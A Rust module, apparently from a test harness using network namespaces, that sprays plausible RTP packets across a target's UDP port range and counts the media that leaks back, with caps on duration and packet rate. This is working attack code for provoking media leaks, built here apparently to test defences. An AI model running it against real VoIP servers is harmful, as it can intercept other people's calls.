//! A hostile host: sprays a range of ports with plausible RTP and listens for what leaks back.

use std::net::{IpAddr, SocketAddr, UdpSocket};
use std::time::{Duration, Instant};

use anyhow::{Context, Result, ensure};

use crate::clock;
use crate::netns::Namespace;
use crate::rtp::{Stream, is_quiet};

/// No attack is longer, whatever is asked for.
pub const ATTACK_MAX: Duration = Duration::from_secs(30);

/// No attack sends more a second.
pub const PACKETS_PER_SECOND_MAX: u32 = 20_000;

/// What to spray.
#[derive(Clone, Copy, Debug)]
pub struct Spray {
    pub target: IpAddr,
    /// First and last port; all of them are hit in each round.
    pub ports: (u16, u16),
    pub rounds_per_second: u32,
    pub time: Duration,
    /// Of the packets; a victim's own SSRC makes them more plausible.
    pub ssrc: u32,
}

/// What came of it.
#[derive(Clone, Copy, Debug, Default, Eq, PartialEq)]
pub struct Loot {
    pub sent: u64,
    /// Datagrams that came back: media that leaked to the attacker.
    pub received: u64,
    pub received_bytes: u64,
}

/// Attacks from `namespace`; returns when it is over.
///
/// # Errors
/// More than the limits allow, or no route to the target.
pub fn spray(namespace: &Namespace, how: Spray) -> Result<Loot> {
    let (first, last) = how.ports;
    ensure!(
        first <= last,
        "ports {first}-{last}: the first is above the last"
    );
    let rate = (u32::from(last - first) + 1).saturating_mul(how.rounds_per_second);
    ensure!(
        (1..=PACKETS_PER_SECOND_MAX).contains(&rate),
        "{rate} packets a second: allowed are 1 to {PACKETS_PER_SECOND_MAX}"
    );
    ensure!(
        how.time <= ATTACK_MAX,
        "{:?}: no attack is longer than {ATTACK_MAX:?}",
        how.time
    );
    let any = if how.target.is_ipv4() {
        "0.0.0.0:0"
    } else {
        "[::]:0"
    };
    let socket = namespace
        .enter(|| UdpSocket::bind(any))?
        .context("attacker's socket")?;
    attack(&socket, how)
}

fn attack(socket: &UdpSocket, how: Spray) -> Result<Loot> {
    let mut loot = Loot::default();
    let stream = Stream::voice(how.ssrc, 0);
    let (start, (first, last)) = (clock::now(), how.ports);
    let interval = Duration::from_secs(1) / how.rounds_per_second;
    for round in 0u32.. {
        let due = start + interval * round;
        if due >= start + how.time {
            break;
        }
        collect(socket, due, &mut loot)?;
        for port in first..=last {
            match socket.send_to(&stream.packet(round), SocketAddr::new(how.target, port)) {
                Ok(_) => loot.sent += 1,
                Err(e) if is_quiet(e.kind()) => {}
                Err(e) => return Err(e).context("spray"),
            }
        }
    }
    collect(socket, start + how.time, &mut loot)?;
    Ok(loot)
}

fn collect(socket: &UdpSocket, until: Instant, loot: &mut Loot) -> Result<()> {
    let mut buffer = [0; 2048];
    loop {
        let left = until.saturating_duration_since(clock::now());
        if left.is_zero() {
            return Ok(());
        }
        socket.set_read_timeout(Some(left.max(Duration::from_micros(100))))?;
        match socket.recv(&mut buffer) {
            Ok(bytes) => {
                loot.received += 1;
                loot.received_bytes += bytes as u64;
            }
            Err(e) if is_quiet(e.kind()) => {}
            Err(e) => return Err(e).context("collect"),
        }
    }
}
